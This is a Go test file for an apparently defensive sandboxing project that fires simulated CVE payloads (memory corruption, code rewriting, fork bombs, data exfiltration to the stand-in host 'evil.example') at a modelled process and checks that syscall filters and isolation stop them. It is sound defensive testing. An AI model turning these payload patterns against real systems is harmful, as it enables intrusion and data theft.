package attack_test

import (
	"errors"
	"testing"

	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
)

// victim spawns a process with the attack log's handler installed and a
// critical region holding known bytes.
func victim(t *testing.T, log *attack.Log) (*kernel.Kernel, *framework.Ctx, mem.Region) {
	t.Helper()
	k := kernel.New()
	p := k.Spawn("victim")
	ctx := framework.NewCtx(k, p)
	ctx.OnExploit = log.Handler()
	crit, err := p.Space().Alloc(64)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Space().Store(crit.Base, []byte("secret-data")); err != nil {
		t.Fatal(err)
	}
	return k, ctx, crit
}

// fire runs imread on a crafted file.
func fire(t *testing.T, k *kernel.Kernel, ctx *framework.Ctx, crafted []byte) error {
	t.Helper()
	k.FS.WriteFile("/evil.img", crafted)
	reg := all.Registry()
	_, err := reg.MustGet("cv.imread").Exec(ctx, []framework.Value{framework.Str("/evil.img")})
	return err
}

func TestCorruptPayloadSameProcess(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	err := fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", crit.Base, []byte("OWNED")))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	out := log.Last()
	if !out.Fired || !out.Corrupted || out.Crashed {
		t.Fatalf("outcome = %+v", out)
	}
	got, _ := ctx.P.Space().Load(crit.Base, 5)
	if string(got) != "OWNED" {
		t.Fatalf("critical data = %q", got)
	}
}

func TestCorruptPayloadWrongAddressCrashes(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	// Target an unmapped address: the wild write segfaults the process.
	err := fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", mem.Addr(0x40000000), []byte{1}))
	if err == nil {
		t.Fatal("expected error")
	}
	out := log.Last()
	if out.Corrupted || !out.Crashed {
		t.Fatalf("outcome = %+v", out)
	}
	if ctx.P.Alive() {
		t.Fatal("wild write should crash the process")
	}
}

func TestCorruptPayloadReadOnlyTargetBlocked(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	if _, err := ctx.P.Space().ProtectRegion(crit, mem.PermRead); err != nil {
		t.Fatal(err)
	}
	_ = fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", crit.Base, []byte("OWNED")))
	out := log.Last()
	if out.Corrupted {
		t.Fatal("read-only target must not be corrupted")
	}
	got, _ := ctx.P.Space().Load(crit.Base, 6)
	if string(got) != "secret" {
		t.Fatal("data changed despite protection")
	}
}

func TestExfilPayloadUnrestricted(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	err := fire(t, k, ctx, attack.Exfiltrate("CVE-2017-12597", crit.Base, 11, "evil.example"))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	out := log.Last()
	if string(out.Leaked) != "secret-data" {
		t.Fatalf("leaked = %q", out.Leaked)
	}
	if len(k.Net.SentTo("evil.example")) != 1 {
		t.Fatal("exfiltrated bytes should be on the wire")
	}
}

func TestExfilPayloadBlockedBySeccomp(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	// Loading-agent-style filter: file syscalls only.
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install()
	err := fire(t, k, ctx, attack.Exfiltrate("CVE-2017-12597", crit.Base, 11, "evil.example"))
	if err == nil {
		t.Fatal("expected error")
	}
	out := log.Last()
	if out.Leaked != nil {
		t.Fatal("nothing must leak")
	}
	if len(k.Net.Sent()) != 0 {
		t.Fatal("no bytes may reach the network")
	}
	if ctx.P.Alive() {
		t.Fatal("socket attempt should kill the process")
	}
}

func TestDoSPayload(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	_ = fire(t, k, ctx, attack.DoS("CVE-2017-14136"))
	if !log.Last().Crashed || ctx.P.Alive() {
		t.Fatal("DoS should crash the process")
	}
}

func TestCodeRewritePayload(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	// A code region (r-x) in the same process.
	code, _ := ctx.P.Space().Alloc(mem.PageSize)
	_, _ = ctx.P.Space().ProtectRegion(code, mem.PermRead|mem.PermExec)
	err := fire(t, k, ctx, attack.CodeRewrite("CVE-2017-17760", code.Base, 16))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	if !log.Last().Rewrote {
		t.Fatalf("outcome = %+v", log.Last())
	}
	got, _ := ctx.P.Space().Load(code.Base, 1)
	if got[0] != 0xCC {
		t.Fatal("code should be overwritten without a filter")
	}
}

func TestCodeRewriteBlockedByMprotectDenial(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	code, _ := ctx.P.Space().Alloc(mem.PageSize)
	_, _ = ctx.P.Space().ProtectRegion(code, mem.PermRead|mem.PermExec)
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install()
	_ = fire(t, k, ctx, attack.CodeRewrite("CVE-2017-17760", code.Base, 16))
	if log.Last().Rewrote {
		t.Fatal("mprotect denial must stop the rewrite")
	}
	got, _ := ctx.P.Space().Load(code.Base, 1)
	if got[0] == 0xCC {
		t.Fatal("code must be intact")
	}
}

func TestForkBombBlocked(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install()
	_ = fire(t, k, ctx, attack.ForkBomb("CVE-2017-12597"))
	if log.Last().Forked {
		t.Fatal("fork must be denied")
	}
	if ctx.P.Alive() {
		t.Fatal("fork attempt should kill the process")
	}
}

func TestEvalCVEsMatchTable5(t *testing.T) {
	cves := attack.EvalCVEs()
	if len(cves) != 18 {
		t.Fatalf("%d CVEs, want 18", len(cves))
	}
	reg := all.Registry()
	byClass := map[attack.VulnClass]int{}
	for _, c := range cves {
		byClass[c.Class]++
		if c.API == "" {
			t.Errorf("%s has no API site", c.ID)
			continue
		}
		api := reg.MustGet(c.API)
		if !api.HasCVE(c.ID) {
			t.Errorf("%s not wired into %s", c.ID, c.API)
		}
	}
	// Table 5 shape: 4 memory-write, 3 RCE, 10 DoS, 1 memory-read.
	if byClass[attack.ClassMemWrite] != 4 || byClass[attack.ClassRCE] != 3 || byClass[attack.ClassDoS] != 10 {
		t.Fatalf("class distribution = %v", byClass)
	}
	if _, ok := attack.EvalCVEByID("CVE-2017-12597"); !ok {
		t.Fatal("lookup failed")
	}
	if _, ok := attack.EvalCVEByID("CVE-0000-0000"); ok {
		t.Fatal("bogus lookup should fail")
	}
}

func TestStudyCorpusShape(t *testing.T) {
	corpus := attack.StudyCorpus()
	if len(corpus) != 241 {
		t.Fatalf("corpus = %d CVEs, want 241", len(corpus))
	}
	byFW := map[string]int{}
	for _, c := range corpus {
		byFW[c.Framework]++
	}
	if len(byFW) != 4 || byFW["TensorFlow"] != 172 || byFW["Pillow"] != 44 || byFW["OpenCV"] != 22 || byFW["NumPy"] != 3 {
		t.Fatalf("per-framework = %v", byFW)
	}
	tab := attack.CorpusByTypeAndClass(corpus)
	// All four API types carry vulnerabilities; loading+processing dominate.
	var dl, dp, rest int
	for ty, classes := range tab {
		n := 0
		for _, c := range classes {
			n += c
		}
		switch ty {
		case framework.TypeLoading:
			dl = n
		case framework.TypeProcessing:
			dp = n
		default:
			rest += n
		}
	}
	if dl+dp < rest*5 {
		t.Fatalf("loading+processing (%d) should dominate others (%d)", dl+dp, rest)
	}
	if len(tab) != 4 {
		t.Fatalf("types covered = %d, want 4", len(tab))
	}
}

func TestStudy56Pipeline(t *testing.T) {
	apps := attack.Study56()
	if len(apps) != 56 {
		t.Fatalf("%d apps", len(apps))
	}
	for _, app := range apps {
		if !app.FollowsPipeline() {
			t.Errorf("%s violates the pipeline pattern: %v", app.Name, app.Pattern)
		}
	}
	// Determinism.
	again := attack.Study56()
	for i := range apps {
		if apps[i].Name != again[i].Name || apps[i].Loops != again[i].Loops {
			t.Fatal("study corpus must be deterministic")
		}
	}
}

func TestTable3Aggregate(t *testing.T) {
	rows := attack.Table3(attack.Study56())
	if len(rows) != 5 || rows[4].Framework != "Total" {
		t.Fatalf("rows = %d", len(rows))
	}
	total := rows[4]
	// Loading+processing dominate; storing is rare (Table 3's zero row).
	if total.Total[framework.TypeProcessing] <= total.Total[framework.TypeStoring] {
		t.Fatal("processing should dominate storing")
	}
	if total.Avg[framework.TypeProcessing] <= 0 {
		t.Fatal("processing average should be positive")
	}
	// Per-app vulnerable APIs stay small (the isolation argument of §4.1).
	if total.Max[framework.TypeLoading] > 6 {
		t.Fatalf("max loading vuln APIs = %d, implausibly high", total.Max[framework.TypeLoading])
	}
}

func TestMalformedPayloads(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	for _, crafted := range [][]byte{
		framework.Trigger("CVE-2017-12597", []byte("corrupt:bad")),
		framework.Trigger("CVE-2017-12597", []byte("exfil:1:2")),
		framework.Trigger("CVE-2017-12597", []byte("rewrite:xyz:2")),
		framework.Trigger("CVE-2017-12597", []byte("unknownop")),
	} {
		if err := fire(t, k, ctx, crafted); err == nil {
			t.Error("malformed payload should error")
		}
		if out := log.Last(); out.Corrupted || out.Leaked != nil || out.Rewrote {
			t.Errorf("malformed payload had effects: %+v", out)
		}
	}
}

// TestOutOfRangePayloadsCrashOnlyTheVictim fires payloads whose range wraps
// the address space or whose length no region could hold. Each is a wild
// access: the exploited process dies, and another process of the same
// kernel lives on with its memory intact.
func TestOutOfRangePayloadsCrashOnlyTheVictim(t *testing.T) {
	const cve = "CVE-2017-12597"
	top := ^mem.Addr(0)
	for _, c := range []struct {
		name    string
		crafted func(crit mem.Region) []byte
	}{
		{"exfil wraps", func(mem.Region) []byte { return attack.Exfiltrate(cve, top-10, 100, "evil.example") }},
		{"exfil huge", func(crit mem.Region) []byte { return attack.Exfiltrate(cve, crit.Base, 1<<62, "evil.example") }},
		{"exfil negative", func(crit mem.Region) []byte { return attack.Exfiltrate(cve, crit.Base, -1, "evil.example") }},
		{"corrupt wraps", func(mem.Region) []byte { return attack.Corrupt(cve, top-1, []byte("OWNED")) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			log := &attack.Log{}
			k, ctx, crit := victim(t, log)
			other := k.Spawn("bystander")
			r, err := other.Space().Alloc(64)
			if err != nil {
				t.Fatal(err)
			}
			if err := other.Space().Store(r.Base, []byte("bystander-data")); err != nil {
				t.Fatal(err)
			}
			if err := fire(t, k, ctx, c.crafted(crit)); err == nil {
				t.Fatal("expected error")
			}
			if out := log.Last(); !out.Crashed || out.Corrupted || out.Leaked != nil {
				t.Fatalf("outcome = %+v", out)
			}
			if ctx.P.Alive() {
				t.Fatal("a wild access should crash the exploited process")
			}
			if !other.Alive() {
				t.Fatal("the bystander process died")
			}
			if got, err := other.Space().Load(r.Base, 14); err != nil || string(got) != "bystander-data" {
				t.Fatalf("bystander memory = %q, %v", got, err)
			}
		})
	}
}

// TestDriveRefusesAPayloadItCannotPlace: a memory-corruption payload at
// tf.nn.conv3d has more bytes than the site's 3x3x3 tensor has values, so
// Drive returns an error instead of skipping the call and reporting
// nothing. The DoS payload of the same CVE fits, and fires.
func TestDriveRefusesAPayloadItCannotPlace(t *testing.T) {
	cve, ok := attack.EvalCVEByID("CVE-2021-29513")
	if !ok || cve.API != "tf.nn.conv3d" {
		t.Fatalf("CVE-2021-29513 = %+v, %v; want the tf.nn.conv3d site", cve, ok)
	}
	log := &attack.Log{}
	d := core.NewDirect(kernel.New(), all.Registry())
	d.Ctx.OnExploit = log.Handler()
	crit, err := d.Ctx.P.Space().Alloc(32)
	if err != nil {
		t.Fatal(err)
	}
	payload := attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
	if len(payload) <= 27 {
		t.Fatalf("corrupt payload is %d bytes; the test needs more than the 27 values of the tensor", len(payload))
	}
	if err := attack.Drive(d, d.Ctx, cve, payload); err == nil {
		t.Fatalf("Drive placed a %d-byte payload in a 27-value tensor", len(payload))
	}
	if log.Last() != nil {
		t.Fatalf("the exploit fired although Drive could not place it: %+v", log.Last())
	}
	if err := attack.Drive(d, d.Ctx, cve, attack.DoS(cve.ID)); err != nil {
		t.Fatalf("DoS payload: %v", err)
	}
	if out := log.Last(); out == nil || !out.Fired || !out.Crashed {
		t.Fatalf("DoS outcome = %+v, want fired and crashed", out)
	}
}
